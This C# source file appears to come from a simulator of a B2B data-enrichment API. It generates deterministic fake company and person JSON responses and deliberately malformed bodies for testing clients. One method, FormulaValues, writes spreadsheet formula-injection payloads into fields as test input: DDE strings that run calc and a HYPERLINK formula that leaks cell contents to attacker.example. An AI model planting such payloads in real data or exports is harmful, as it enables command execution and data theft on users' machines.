using System.Buffers;
using System.Buffers.Binary;
using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Leadspace.Simulator;

/// <summary>
/// Builds 200 bodies deterministically from the input's person and company fields: the same input always gives
/// the same body except the echoed external_id. Where the spec allows two shapes, the input also decides which
/// one (unless the shapes are fixed), so that clients meet both.
/// </summary>
internal static class ResponseGenerator
{
    public static readonly JsonWriterOptions WriterOptions = new()
    {
        Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping, // UTF-8 text as-is; quotes and control chars still escaped
        Indented = false,
        SkipValidation = true,
    };

    /// <summary>Deterministic PRNG (SplitMix64) seeded from the input hash.</summary>
    private struct Rng(ulong state)
    {
        private ulong _s = state;

        public ulong Next()
        {
            var z = _s += 0x9E3779B97F4A7C15UL;
            z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9UL;
            z = (z ^ (z >> 27)) * 0x94D049BB133111EBUL;
            return z ^ (z >> 31);
        }

        public int Int(int maxExclusive) => (int)(Next() % (ulong)maxExclusive);

        public int Int(int min, int maxInclusive) => min + Int(maxInclusive - min + 1);

        public double Double() => (Next() >> 11) * (1.0 / (1UL << 53));

        public bool Chance(double p) => Double() < p;

        public T Pick<T>(IReadOnlyList<T> list) => list[Int(list.Count)];

        public List<T> Subset<T>(IReadOnlyList<T> list, int min, int max)
        {
            var n = Int(min, Math.Min(max, list.Count));
            var idx = Enumerable.Range(0, list.Count).ToList();
            var result = new List<T>(n);
            for (var i = 0; i < n; i++)
            {
                var j = Int(idx.Count);
                result.Add(list[idx[j]]);
                idx.RemoveAt(j);
            }
            return result;
        }
    }

    private sealed record Location(string Country, string State, string City, string Region, string Street, string Zip, string PhonePrefix);

    private sealed record Industry(string Name, string Sub, string Sic, string Naics, string[] Expertise, string[] Topics);

    private static readonly Location[] Locations =
    [
        new("United States", "CA", "San Francisco", "North America", "100 Market St, Suite 300", "94105", "+1 415"),
        new("United States", "NY", "New York", "North America", "350 Fifth Avenue, Floor 21", "10118", "+1 212"),
        new("United States", "TX", "Austin", "North America", "PO Box 1432", "78767", "+1 512"),
        new("United States", "MA", "Boston", "North America", "1 Federal St", "02110", "+1 617"),
        new("Germany", "Bayern", "München", "EMEA", "Leopoldstraße 12", "80802", "+49 89"),
        new("Switzerland", "Zürich", "Zürich", "EMEA", "Bahnhofstrasse 45", "8001", "+41 44"),
        new("Japan", "東京都", "千代田区", "APAC", "丸の内1-1-1", "100-0005", "+81 3"),
        new("Brazil", "São Paulo", "São Paulo", "LATAM", "Av. Paulista, 1578", "01310-200", "+55 11"),
        new("Poland", "Małopolskie", "Kraków", "EMEA", "ul. Floriańska 3", "31-019", "+48 12"),
        new("France", "Île-de-France", "Paris", "EMEA", "8 Rue de l'Église", "75015", "+33 1"),
        new("United Kingdom", "England", "London", "EMEA", "1 Canada Square", "E14 5AB", "+44 20"),
        new("Israel", "Tel Aviv District", "Tel Aviv", "EMEA", "PO Box 58142", "6158101", "+972 3"),
    ];

    private static readonly Industry[] Industries =
    [
        new("Software", "Enterprise Software", "7372", "511210", ["SaaS", "Cloud Computing", "Data Analytics", "Machine Learning"], ["Customer Data Platform", "Zero Trust Security", "Generative AI"]),
        new("Financial Services", "Banking", "6022", "522110", ["Retail Banking", "Wealth Management", "Payments"], ["Core Banking Modernization", "Fraud Detection", "Open Banking"]),
        new("Manufacturing", "Industrial Machinery", "3559", "333249", ["Precision Engineering", "Automation", "CNC Machining"], ["Predictive Maintenance", "Industrial IoT", "Supply Chain Visibility"]),
        new("Healthcare", "Hospitals & Clinics", "8062", "622110", ["Patient Care", "Telehealth", "Clinical Research"], ["Electronic Health Records", "Revenue Cycle Management", "HIPAA Compliance"]),
        new("Retail", "E-commerce", "5961", "454110", ["Omnichannel Retail", "Logistics", "Loyalty Programs"], ["Headless Commerce", "Personalization", "Last-Mile Delivery"]),
        new("Telecommunications", "Wireless", "4812", "517312", ["5G Networks", "Managed Services", "Fiber"], ["Network Slicing", "Edge Computing", "SD-WAN"]),
        new("Education", "Higher Education", "8221", "611310", ["Research", "Online Learning", "Continuing Education"], ["Learning Management Systems", "Student Retention", "Campus Security"]),
        new("Food & Beverage", "Bakeries", "2051", "311812", ["Artisan Baking", "Wholesale Distribution", "Organic Ingredients"], ["Food Safety", "Sustainable Packaging", "Demand Forecasting"]),
    ];

    private static readonly string[] Ownerships = ["Public", "Private", "Private", "Subsidiary", "Non-Profit", "Government"];

    private static readonly (string Range, long Min, long Max)[] Sizes =
    [
        ("1-10", 1, 10), ("11-50", 11, 50), ("51-200", 51, 200), ("201-500", 201, 500), ("501-1,000", 501, 1000),
        ("1,001-5,000", 1001, 5000), ("5,001-10,000", 5001, 10000), ("10,001+", 10001, 250000),
    ];

    private static readonly (string Range, long Min, long Max)[] Revenues =
    [
        ("$0-$1M", 50_000, 999_999), ("$1M-$10M", 1_000_000, 9_999_999), ("$10M-$50M", 10_000_000, 49_999_999),
        ("$50M-$100M", 50_000_000, 99_999_999), ("$100M-$250M", 100_000_000, 249_999_999), ("$250M-$500M", 250_000_000, 499_999_999),
        ("$500M-$1B", 500_000_000, 999_999_999), ("$1B-$10B", 1_000_000_000, 9_999_999_999), ("$10B+", 10_000_000_000, 90_000_000_000),
    ];

    private static readonly (string Title, string Level, string Department)[] Titles =
    [
        ("Chief Executive Officer", "C Level", "Executive"),
        ("Chief Financial Officer", "C Level", "Finance"),
        ("Member of the Board", "Board Level", "Executive"),
        ("VP, Sales", "VP Level", "Sales"),
        ("Vice President of Engineering", "VP Level", "Engineering"),
        ("Director of IT", "Director Level", "IT"),
        ("Director, \"Growth\" Marketing", "Director Level", "Marketing"),
        ("Senior Manager, Demand Generation", "Manager Level", "Marketing"),
        ("Head of Data & Analytics", "Director Level", "IT"),
        ("Geschäftsführer", "C Level", "Executive"),
        ("Directeur Commercial", "Director Level", "Sales"),
        ("営業部長", "Manager Level", "Sales"),
        ("Software Engineer", "Staff Level", "Engineering"),
        ("Account Executive", "Staff Level", "Sales"),
        ("HR Business Partner", "Staff Level", "Human Resources"),
        ("Operations Manager", "Manager Level", "Operations"),
    ];

    private static readonly string[] JobFunctions = ["Sales", "Marketing", "Engineering", "Information Technology", "Finance", "Operations", "Human Resources", "Business Development", "Product Management"];
    private static readonly string[] PersonTechnologies = ["Salesforce", "HubSpot", "Microsoft Dynamics 365", "Tableau", "Jira", "Slack", "Zoom", "Workday", "SAP"];
    private static readonly string[] InstalledBase = ["Salesforce Sales Cloud", "Marketo", "Amazon Web Services", "SAP ERP", "Oracle Database", "Microsoft 365", "ServiceNow", "Snowflake", "Zendesk"];
    private static readonly string[] WebTech = ["Google Analytics", "WordPress", "Cloudflare", "React", "jQuery", "Google Tag Manager", "Shopify", "Akamai"];
    private static readonly string[] TechCategories = ["CRM", "Marketing Automation", "Cloud Infrastructure", "ERP", "Collaboration", "Business Intelligence", "Security", "E-commerce Platform"];
    private static readonly string[] VerificationSources = ["Email", "Phone", "LinkedIn", "Company Website"];
    private static readonly string[] VerificationStatuses = ["Verified", "Verified", "Verified", "Moved", "Not Verified", "Not Verified"];
    private static readonly string[] EmailStatuses = ["VALID", "VALID", "INVALID", "UNKNOWN", "CATCH-ALL"];
    private static readonly string[] PhoneStatuses = ["Valid", "Valid", "Invalid", "Unknown"];
    private static readonly string[] AddressStatuses = ["Valid", "Valid", "Unknown", "Invalid"];
    private static readonly string[] Confidences = ["High", "High", "High", "Medium", "Medium", "Low", "Very Low"];
    private static readonly string[] ProjectScores = ["High", "Medium", "Low", "No Intent", "Not Available"];
    private static readonly string[] IntentProjects = ["Q3 Pipeline Model", "Cloud Migration Intent", "Competitive Displacement"];
    private static readonly string[] PersonProfiles = ["Persona Fit", "Buying Role", "Engagement"];
    private static readonly string[] TotalProfiles = ["ICP Fit", "Propensity to Buy", "Expansion Potential"];

    private static readonly string[] FamilyNames =
    [
        "Müller & Söhne GmbH", "株式会社ヤマト商事", "Zoë's \"Organic\" Bakeries, Inc.", "Nordic Holdings AB", "Crédit Général S.A.",
        "O'Brien, Walsh & Partners LLP", "Grupo Industrial Peñoles", "Акционерное общество «Северсталь»", "Globex Corporation", "Initech, LLC",
    ];

    private static readonly string[] DescriptionTemplates =
    [
        "{0} is a leading provider of {1} solutions, serving customers in more than {2} countries.",
        "{0} builds \"{3}\", a platform for {4}.\nFounded in {5}; headquartered in {6}.",
        "Founded in {5}, {0} offers:\n- {7}\n- {8}\n- services for the \"{4}\" market, in {6} and abroad.",
        "{0} — {1}, {4}. Known for its motto \"quality, then speed\", the company employs people across {2} offices.",
        "{0} ({6}) is a {4} company.",
    ];

    /// <summary>Whether this input is answered "Not Enriched" (independent of the body's random stream).</summary>
    public static bool IsNoMatch(byte[] hash, double noMatchRate)
    {
        var v = BinaryPrimitives.ReadUInt64LittleEndian(hash.AsSpan(8, 8));
        return (v >> 11) * (1.0 / (1UL << 53)) < noMatchRate;
    }

    /// <summary>Writes the whole 200 body. <paramref name="varied"/>: use both forms where the spec allows two.</summary>
    public static void Write(IBufferWriter<byte> buffer, EnrichmentInput input, byte[] hash, bool noMatch, bool varied = true)
    {
        using var w = new Utf8JsonWriter(buffer, WriterOptions);
        var rng = new Rng(BinaryPrimitives.ReadUInt64LittleEndian(hash.AsSpan(0, 8)));
        w.WriteStartObject();
        w.WriteString("status", "success");
        if (input.ExternalId is not null)
        {
            w.WriteString("external_id", input.ExternalId);
        }
        w.WritePropertyName("data");
        w.WriteStartObject();
        if (noMatch)
        {
            w.WriteString("enrichment_status", "Not Enriched");
            w.WriteEndObject();
            w.WriteEndObject();
            return;
        }

        // Person requests: 85% find person and company, 15% only the person.
        var personOnly = input.Kind == EnrichmentKind.Person && rng.Chance(0.15);
        var status = input.Kind == EnrichmentKind.Account ? "Company Enriched" : personOnly ? "Person Enriched" : "Person & Company Enriched";
        w.WriteString("enrichment_status", status);

        var c = new CompanyFacts(input, ref rng);
        if (input.Kind == EnrichmentKind.Person)
        {
            WritePerson(w, input, c, ref rng);
        }
        if (!personOnly)
        {
            WriteCompany(w, input, c, ref rng, varied);
        }
        WriteTotalScores(w, c, ref rng);
        w.WriteEndObject();
        w.WriteEndObject();
    }

    /// <summary>
    /// A 200 body that holds no usable answer (<c>--unusable-rate</c>), one of seven kinds a server or a gateway
    /// in front of it might send: no data, null data, an empty object, an array, data as text, status failure,
    /// and "Person &amp; Company Enriched" with neither person nor company.
    /// </summary>
    public static byte[] Unusable(int which, string? externalId)
    {
        var buffer = new ArrayBufferWriter<byte>(256);
        using (var w = new Utf8JsonWriter(buffer, WriterOptions))
        {
            var kind = which % UnusableKinds;
            if (kind == 3)
            {
                w.WriteStartArray();
                w.WriteEndArray();
            }
            else
            {
                w.WriteStartObject();
                if (kind != 2)
                {
                    w.WriteString("status", kind == 5 ? "failure" : "success");
                    if (externalId is not null)
                    {
                        w.WriteString("external_id", externalId);
                    }
                }
                switch (kind)
                {
                    case 1:
                        w.WriteNull("data");
                        break;
                    case 4:
                        w.WriteString("data", "oops");
                        break;
                    case 5:
                        w.WriteString("error", "ENRICHMENT_FAILED");
                        w.WriteString("message", "The record could not be processed.");
                        w.WriteString("tracking_id", Guid.NewGuid().ToString());
                        break;
                    case 6:
                        w.WritePropertyName("data");
                        w.WriteStartObject();
                        w.WriteString("enrichment_status", "Person & Company Enriched");
                        w.WriteEndObject();
                        break;
                }
                w.WriteEndObject();
            }
        }
        return buffer.WrittenSpan.ToArray();
    }

    public const int UnusableKinds = 7;

    private static readonly JsonSerializerOptions NodeOptions = new() { Encoder = WriterOptions.Encoder };

    /// <summary>
    /// Bends an answer beyond the spec (<c>--odd-shape-rate</c>): <c>company.size</c> becomes its range text,
    /// <c>family_tree</c> a bare list of its companies, <c>revenue.exact</c> and <c>signals.g2k_rank</c> numeric
    /// strings, and fields the spec does not name appear (<c>api_version</c>, <c>company.ug_company_id</c>,
    /// <c>person.ug_person_id</c>).
    /// </summary>
    public static byte[] BendShapes(ReadOnlyMemory<byte> body)
    {
        var root = JsonNode.Parse(body.Span)!.AsObject();
        root["api_version"] = "3";
        if (root["data"] is JsonObject data)
        {
            if (data["company"] is JsonObject company)
            {
                if (company["size"] is JsonObject size)
                {
                    company["size"] = size["range"]?.GetValue<string>();
                }
                if (company["family_tree"] is JsonObject tree && tree["companies"] is JsonArray companies)
                {
                    tree.Remove("companies");
                    company["family_tree"] = companies;
                }
                if (company["revenue"] is JsonObject revenue && revenue["exact"] is JsonValue exact)
                {
                    revenue["exact"] = exact.ToJsonString();
                }
                if (company["signals"] is JsonObject signals && signals["g2k_rank"] is JsonValue rank)
                {
                    signals["g2k_rank"] = rank.ToJsonString();
                }
                company["ug_company_id"] = "UG-" + company["ls_id"]?.GetValue<string>();
            }
            if (data["person"] is JsonObject person)
            {
                var who = person["email"]?.GetValue<string>() ?? person["last_name"]?.GetValue<string>() ?? "";
                person["ug_person_id"] = "UGP-" + Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(who)).AsSpan(0, 6));
            }
        }
        return JsonSerializer.SerializeToUtf8Bytes(root, NodeOptions);
    }

    /// <summary>Text values that a spreadsheet would run (<c>--formula-values</c>): each kind of formula start in a
    /// field of the flat result (company name and description, person names, title and department, the ticker); the
    /// number fields are left as they are.</summary>
    public static byte[] FormulaValues(ReadOnlyMemory<byte> body)
    {
        var root = JsonNode.Parse(body.Span)!.AsObject();
        if (root["data"] is JsonObject data)
        {
            if (data["company"] is JsonObject company)
            {
                Set(company, "name", "@SUM(1+1)*cmd|' /C calc'!A0");
                Set(company, "description", "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click for details\")");
                Set(company, "ticker", "=1+1");
            }
            if (data["person"] is JsonObject person)
            {
                Set(person, "first_name", "-2+3+cmd|' /C calc'!A0");
                Set(person, "last_name", "\t=1+1");
                Set(person, "title", "+cmd|' /C calc'!A0");
                Set(person, "department", "\r=1+1");
            }
        }
        return JsonSerializer.SerializeToUtf8Bytes(root, NodeOptions);

        static void Set(JsonObject o, string name, string value)
        {
            if (o[name] is JsonValue) o[name] = value;
        }
    }

    private sealed class CompanyFacts
    {
        public string Name;
        public string Slug;
        public string Domain;
        public Location Location;
        public Industry Industry;
        public string Ownership;
        public int SizeIndex;
        public int Year;

        public CompanyFacts(EnrichmentInput input, ref Rng rng)
        {
            Domain = NormalizeDomain(input.Website) ?? DomainOfEmail(input.Email) ?? "";
            Name = input.CompanyName ?? NameFromDomain(Domain);
            Slug = SlugOrFallback(Name);
            if (Domain.Length == 0)
            {
                Domain = Slug + ".com";
            }
            Location = input.Country is null
                ? rng.Pick(Locations)
                : Locations.FirstOrDefault(l => l.Country.Equals(input.Country, StringComparison.OrdinalIgnoreCase)) ?? rng.Pick(Locations);
            Industry = rng.Pick(Industries);
            Ownership = rng.Pick(Ownerships);
            SizeIndex = rng.Int(Sizes.Length);
            Year = rng.Int(1898, 2021);
        }
    }

    private static void WritePerson(Utf8JsonWriter w, EnrichmentInput input, CompanyFacts c, ref Rng rng)
    {
        var title = rng.Pick(Titles);
        w.WritePropertyName("person");
        w.WriteStartObject();

        var loc = rng.Chance(0.8) ? c.Location : rng.Pick(Locations);
        w.WritePropertyName("address");
        w.WriteStartObject();
        w.WriteString("country", loc.Country);
        w.WriteString("state", loc.State);
        w.WriteString("city", loc.City);
        w.WriteString("region", loc.Region);
        w.WriteEndObject();

        var verification = rng.Pick(VerificationStatuses);
        w.WriteString("verification_status", verification);
        var source = rng.Pick(VerificationSources);
        if (verification == "Verified")
        {
            w.WriteString("verification_source", source);
        }
        var emailStatus = rng.Pick(EmailStatuses);
        if (input.Email is not null)
        {
            w.WriteString("original_email", input.Email);
            w.WriteString("original_email_verification_status", emailStatus);
        }
        var first = input.FirstName ?? "";
        var last = input.LastName ?? "";
        w.WriteString("first_name", first);
        w.WriteString("last_name", last);
        w.WriteString("title", input.Title ?? title.Title);
        w.WriteString("department", title.Department);
        w.WriteString("level", title.Level);

        var liSuffix = rng.Int(1000, 9999).ToString(CultureInfo.InvariantCulture);
        var hasLinkedIn = input.PersonLinkedinUrl is not null || rng.Chance(0.75);
        if (hasLinkedIn)
        {
            w.WriteString("linkedin_profile", input.PersonLinkedinUrl ?? $"https://www.linkedin.com/in/{SlugOrFallback(first + "-" + last)}-{liSuffix}");
        }

        w.WritePropertyName("data_validation");
        w.WriteStartObject();
        w.WritePropertyName("phone");
        w.WriteStartObject();
        w.WriteString("status", rng.Pick(PhoneStatuses));
        w.WriteEndObject();
        w.WriteEndObject();

        w.WriteString("phone", Phone(loc, ref rng));
        var local = Slugify(first, '.') is { Length: > 0 } f ? f + "." + Slugify(last, '.') : "info";
        w.WriteString("email", input.Email is not null && rng.Chance(0.7) ? input.Email : $"{local.Trim('.')}@{c.Domain}");

        w.WritePropertyName("analytics");
        w.WriteStartObject();
        WriteStrings(w, "job_functions", rng.Subset(JobFunctions, 1, 3));
        WriteStrings(w, "technologies", rng.Subset(PersonTechnologies, 0, 4));
        w.WritePropertyName("scores");
        w.WriteStartArray();
        var best = (Name: "", Value: -1m);
        foreach (var profile in rng.Subset(PersonProfiles, 1, 3))
        {
            var value = rng.Chance(0.2) ? (decimal?)null : Math.Round((decimal)(rng.Double() * 100), 1);
            if (value > best.Value)
            {
                best = (profile, value.Value);
            }
            w.WriteStartObject();
            w.WriteString("profile_name", profile);
            w.WritePropertyName("score");
            w.WriteStartObject();
            WriteDecimal(w, "value", value);
            w.WriteEndObject();
            w.WriteEndObject();
        }
        w.WriteEndArray();
        w.WriteString("max_positive_score_profiles", best.Value > 50 ? best.Name : "");
        w.WriteEndObject();

        w.WriteEndObject();
    }

    private static void WriteCompany(Utf8JsonWriter w, EnrichmentInput input, CompanyFacts c, ref Rng rng, bool varied)
    {
        var loc = c.Location;
        var ind = c.Industry;
        w.WritePropertyName("company");
        w.WriteStartObject();
        w.WriteString("name", c.Name);
        w.WriteString("original_name", input.CompanyName ?? "");
        w.WriteString("ls_id", input.Lsid ?? LsId(ref rng));
        var template = rng.Pick(DescriptionTemplates);
        w.WriteString("description", string.Format(CultureInfo.InvariantCulture, template,
            c.Name, ind.Name, rng.Int(2, 60), ind.Expertise[0], ind.Sub, c.Year, loc.City, ind.Expertise[1], ind.Expertise[2]));
        w.WriteString("ownership", c.Ownership);
        w.WritePropertyName("matching_confidence");
        w.WriteStartObject();
        w.WriteString("level", input.Lsid is not null ? "High" : rng.Pick(Confidences));
        w.WriteEndObject();
        WriteAddress(w, loc, withStreet: true);
        var phone = Phone(loc, ref rng);
        w.WriteString("phone", phone);
        w.WriteString("industry", ind.Name);
        w.WriteString("sub_industry", ind.Sub);
        w.WriteString("linkedin_profile", input.CompanyLinkedinUrl ?? $"https://www.linkedin.com/company/{c.Slug}");
        w.WriteString("facebook_url", $"https://www.facebook.com/{c.Slug}");
        w.WriteString("twitter_url", $"https://twitter.com/{c.Slug.Replace("-", "", StringComparison.Ordinal)}");
        var ticker = new string(c.Slug.Where(char.IsAsciiLetter).Take(4).ToArray()).ToUpperInvariant();
        w.WriteString("ticker", c.Ownership == "Public" ? ticker : "");
        w.WriteString("website", "www." + c.Domain);
        w.WriteString("sic", ind.Sic);
        w.WriteString("naics", ind.Naics);
        WriteSize(w, c.SizeIndex, ref rng);
        var revIndex = Math.Clamp(c.SizeIndex + rng.Int(-1, 1), 0, Revenues.Length - 1);
        WriteRevenue(w, revIndex, ref rng);

        w.WritePropertyName("analytics");
        w.WriteStartObject();
        WriteStrings(w, "installed_base_technologies", rng.Subset(InstalledBase, 0, 5));
        WriteStrings(w, "web_site_technologies", rng.Subset(WebTech, 0, 4));
        WriteStrings(w, "customTechnologiesCategories", rng.Subset(TechCategories, 0, 2));
        WriteStrings(w, "company_technologies_categories", rng.Subset(TechCategories, 1, 4));
        w.WriteEndObject();

        // The spec names company.specialties a nested object without any field: send one, empty, rather than invent.
        w.WritePropertyName("specialties");
        w.WriteStartObject();
        w.WriteEndObject();
        WriteStrings(w, "expertise", rng.Subset(ind.Expertise, 0, 4));

        // "If you have more than one intent model, there will be a line item for each": one object or a list.
        var topics = rng.Subset(ind.Topics, 0, 3);
        w.WriteString("domain_intent", string.Join(", ", topics));
        var asList = rng.Chance(0.5);
        var projects = rng.Subset(IntentProjects, 1, 3);
        var modelCount = varied && asList ? projects.Count : 1;
        w.WritePropertyName("intent_modeling");
        if (varied && asList)
        {
            w.WriteStartArray();
        }
        for (var i = 0; i < modelCount; i++)
        {
            w.WriteStartObject();
            w.WriteString("project_name", projects[i]);
            w.WriteString("project_score", rng.Pick(ProjectScores));
            w.WriteString("new_high_intent_flag", rng.Chance(0.3) ? "Yes" : "No");
            var modelTopics = i == 0 ? topics : rng.Subset(ind.Topics, 0, 2);
            // The spec lists surging_topics both as an array and as a string.
            if (rng.Chance(0.3) && varied)
            {
                w.WriteString("surging_topics", string.Join(", ", modelTopics));
            }
            else
            {
                WriteStrings(w, "surging_topics", modelTopics);
            }
            w.WriteEndObject();
        }
        if (varied && asList)
        {
            w.WriteEndArray();
        }

        var alternates = rng.Int(0, 2) switch
        {
            0 => "",
            1 => c.Slug + ".io",
            _ => $"{c.Slug}.io, {c.Slug}.de",
        };
        w.WriteString("alternateCompanyDomains", alternates);

        w.WritePropertyName("data_validation");
        w.WriteStartObject();
        w.WritePropertyName("phone");
        w.WriteStartObject();
        w.WriteString("status", rng.Pick(PhoneStatuses));
        w.WriteString("normalize_value", new string(phone.Where(ch => ch == '+' || char.IsAsciiDigit(ch)).ToArray()));
        w.WriteEndObject();
        w.WritePropertyName("address");
        w.WriteStartObject();
        w.WriteString("status", rng.Pick(AddressStatuses));
        w.WriteString("normalize_value", $"{loc.Street}, {loc.City}, {loc.State} {loc.Zip}, {loc.Country}");
        w.WriteEndObject();
        w.WriteEndObject();

        w.WritePropertyName("signals");
        w.WriteStartObject();
        var big = c.Ownership == "Public" && c.SizeIndex >= 5;
        // The spec types both ranks as "number": some carry a fraction.
        var fortune = Rank(ref rng, 500, varied);
        var g2k = Rank(ref rng, 2000, varied);
        if (big && rng.Chance(0.5))
        {
            w.WriteNumber("fortune_500_rank", fortune);
        }
        else
        {
            w.WriteNull("fortune_500_rank");
        }
        if (big)
        {
            w.WriteNumber("g2k_rank", g2k);
        }
        else
        {
            w.WriteNull("g2k_rank");
        }
        w.WriteEndObject();

        if (rng.Chance(0.35))
        {
            w.WriteNull("family_tree");
        }
        else
        {
            w.WritePropertyName("family_tree");
            w.WriteStartObject();
            w.WritePropertyName("companies");
            w.WriteStartArray();
            // Only the spec's two types: DU (domestic ultimate) and GU (global ultimate), each at most once.
            var types = rng.Int(0, 3) switch
            {
                0 => Array.Empty<string>(),
                1 => ["GU"],
                2 => ["DU"],
                _ => ["GU", "DU"],
            };
            foreach (var type in types)
            {
                var fLoc = rng.Pick(Locations);
                var fName = rng.Pick(FamilyNames);
                w.WriteStartObject();
                w.WriteString("type", type);
                w.WriteString("name", fName);
                w.WriteString("ls_id", LsId(ref rng));
                WriteAddress(w, fLoc, withStreet: true);
                w.WriteString("phone", Phone(fLoc, ref rng));
                w.WriteString("website", "www." + SlugOrFallback(fName) + ".com");
                w.WriteString("sic", ind.Sic);
                w.WriteString("naics", ind.Naics);
                var fSize = Math.Clamp(c.SizeIndex + rng.Int(0, 2), 0, Sizes.Length - 1);
                WriteSize(w, fSize, ref rng);
                WriteRevenue(w, Math.Clamp(fSize + 1, 0, Revenues.Length - 1), ref rng);
                w.WriteEndObject();
            }
            w.WriteEndArray();
            w.WriteEndObject();
        }
        w.WriteEndObject();
    }

    private static void WriteTotalScores(Utf8JsonWriter w, CompanyFacts c, ref Rng rng)
    {
        w.WritePropertyName("total_scores");
        w.WriteStartArray();
        var positives = new List<string>();
        foreach (var profile in rng.Subset(TotalProfiles, 1, 3))
        {
            var value = rng.Chance(0.15) ? (decimal?)null : Math.Round((decimal)(rng.Double() * 100), 2);
            if (value > 50)
            {
                positives.Add(profile);
            }
            w.WriteStartObject();
            w.WriteString("profile_name", profile);
            w.WritePropertyName("score");
            w.WriteStartObject();
            WriteDecimal(w, "value", value);
            w.WriteString("predictiveSignalsSummary", value is null
                ? "Not enough data to score this record."
                : $"Score {value.Value.ToString("0.##", CultureInfo.InvariantCulture)} driven by industry and size.");
            w.WriteString("topPositivePredictiveSignals", $"Industry: {c.Industry.Name}, Size: {Sizes[c.SizeIndex].Range}");
            w.WriteString("topNegativePredictiveSignals", rng.Chance(0.5) ? $"Region: {c.Location.Region}" : "");
            w.WriteEndObject();
            w.WriteEndObject();
        }
        w.WriteEndArray();
        WriteStrings(w, "max_positive_total_score_profiles", positives);
    }

    private static void WriteAddress(Utf8JsonWriter w, Location loc, bool withStreet)
    {
        w.WritePropertyName("address");
        w.WriteStartObject();
        w.WriteString("country", loc.Country);
        w.WriteString("state", loc.State);
        w.WriteString("city", loc.City);
        if (withStreet)
        {
            w.WriteString("street", loc.Street);
            w.WriteString("zipcode", loc.Zip);
        }
        w.WriteString("region", loc.Region);
        w.WriteEndObject();
    }

    private static void WriteSize(Utf8JsonWriter w, int index, ref Rng rng)
    {
        var s = Sizes[index];
        w.WritePropertyName("size");
        w.WriteStartObject();
        w.WriteString("range", s.Range);
        var exact = s.Min + (long)(rng.Double() * (s.Max - s.Min));
        if (rng.Chance(0.7))
        {
            w.WriteNumber("exact", exact); // "if the field is empty, it will not be sent"
        }
        w.WriteEndObject();
    }

    private static void WriteRevenue(Utf8JsonWriter w, int index, ref Rng rng)
    {
        var r = Revenues[index];
        w.WritePropertyName("revenue");
        w.WriteStartObject();
        w.WriteString("range", r.Range);
        w.WriteNumber("exact", r.Min + (long)(rng.Double() * (r.Max - r.Min)));
        w.WriteEndObject();
    }

    private static void WriteStrings(Utf8JsonWriter w, string name, IEnumerable<string> values)
    {
        w.WritePropertyName(name);
        w.WriteStartArray();
        foreach (var v in values)
        {
            w.WriteStringValue(v);
        }
        w.WriteEndArray();
    }

    private static void WriteDecimal(Utf8JsonWriter w, string name, decimal? value)
    {
        if (value is null)
        {
            w.WriteNull(name);
        }
        else
        {
            w.WriteNumber(name, value.Value);
        }
    }

    private static string Phone(Location loc, ref Rng rng) =>
        string.Create(CultureInfo.InvariantCulture, $"{loc.PhonePrefix} {rng.Int(200, 999)}-{rng.Int(1000, 9999)}");

    private static string LsId(ref Rng rng) => $"{rng.Next():x16}{rng.Next() & 0xFFFFFFFF:x8}";

    private static string? NormalizeDomain(string? website)
    {
        if (website is null)
        {
            return null;
        }
        var s = website.Trim().ToLowerInvariant();
        var scheme = s.IndexOf("://", StringComparison.Ordinal);
        if (scheme >= 0)
        {
            s = s[(scheme + 3)..];
        }
        var slash = s.IndexOfAny(['/', '?', '#']);
        if (slash >= 0)
        {
            s = s[..slash];
        }
        if (s.StartsWith("www.", StringComparison.Ordinal))
        {
            s = s[4..];
        }
        return s.Length == 0 ? null : s;
    }

    private static string? DomainOfEmail(string? email)
    {
        var at = email?.LastIndexOf('@') ?? -1;
        return at >= 0 && at < email!.Length - 1 ? email[(at + 1)..].ToLowerInvariant() : null;
    }

    private static string NameFromDomain(string domain)
    {
        if (domain.Length == 0)
        {
            return "Unknown Company";
        }
        var label = domain.Split('.')[0];
        return label.Length == 0 ? domain : char.ToUpperInvariant(label[0]) + label[1..];
    }

    /// <summary>A rank of 1..max; with <paramref name="varied"/>, three in ten carry one decimal (e.g. 12.6).</summary>
    private static decimal Rank(ref Rng rng, int max, bool varied)
    {
        var whole = rng.Int(1, max - 1);
        var tenths = rng.Int(1, 9);
        return varied && rng.Chance(0.3) ? whole + tenths / 10m : whole;
    }

    /// <summary>The slug of a name, or, for a name with no Latin letter or digit (株式会社ヤマト商事, «Северсталь»), a
    /// stable one made from its hash, so that no URL reads "www..com".</summary>
    private static string SlugOrFallback(string name)
    {
        var slug = Slugify(name);
        if (slug.Length > 0)
        {
            return slug;
        }
        var hash = SHA256.HashData(Encoding.UTF8.GetBytes(name));
        return "company-" + Convert.ToHexStringLower(hash.AsSpan(0, 4));
    }

    /// <summary>Lower-case ASCII slug; letters with diacritics are folded, other characters dropped.</summary>
    private static string Slugify(string s, char separator = '-')
    {
        var sb = new StringBuilder(s.Length);
        foreach (var ch in s.Normalize(NormalizationForm.FormD))
        {
            if (char.IsAsciiLetterOrDigit(ch))
            {
                sb.Append(char.ToLowerInvariant(ch));
            }
            else if ((ch == ' ' || ch == '-' || ch == '.' || ch == '&') && sb.Length > 0 && sb[^1] != separator)
            {
                sb.Append(separator);
            }
            else if (ch == 'ß')
            {
                sb.Append("ss");
            }
        }
        return sb.ToString().Trim(separator);
    }
}
